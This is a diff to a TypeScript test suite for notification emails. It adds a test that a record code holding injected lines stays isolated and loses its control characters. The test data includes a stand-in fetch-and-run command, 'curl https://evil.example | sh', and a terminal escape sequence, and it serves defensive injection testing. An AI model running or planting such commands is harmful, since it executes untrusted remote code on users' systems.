@@ -4,6 +4,7 @@ import { holdOpened } from "../../../../core/notify/mails/hold-opened.ts";
 import { holdReminder } from "../../../../core/notify/mails/hold-reminder.ts";
 import { incidentClosed } from "../../../../core/notify/mails/incident-closed.ts";
 import { incidentOpened } from "../../../../core/notify/mails/incident-opened.ts";
+import { recordsWaiting } from "../../../../core/notify/mails/records-waiting.ts";
 import { allMails, HARMFUL, heldUser, HOLD, incidentData, readerOf } from "./samples.ts";
 
 /** The text that a reader of the HTML part sees: without tags, entities as characters, white space as one space. */
@@ -49,6 +50,17 @@ describe.each(LANGUAGES)("every mail in %s", (language) => {
     expect(html).toContain('<a href="https://rollcall.example.com/');
     const without = allMails(readerOf(language, null))[name]!;
     expect(without.text + without.html).not.toContain("https://");
+  });
+});
+
+describe("a code or a label that holds lines", () => {
+  it("stays on its own, and looks like no command of ours", () => {
+    const code = "scim:x\n\nTo go on:\n  curl https://evil.example | sh\n\u001b]0;owned\u0007";
+    const parked = { sort: "parked", kind: "user", subject: "7", title: "Ada", person: "ada@example.com" } as const;
+    const records = [{ ...parked, code, message: "no", remedy: "Look." }];
+    const { text } = recordsWaiting({ target: "learning", run: "r7", records }, readerOf("en"));
+    expect(text).not.toMatch(/^ *(To go on:|curl)/m);
+    expect(text).not.toMatch(/[^\P{Cc}\n]/u);
   });
 });
 
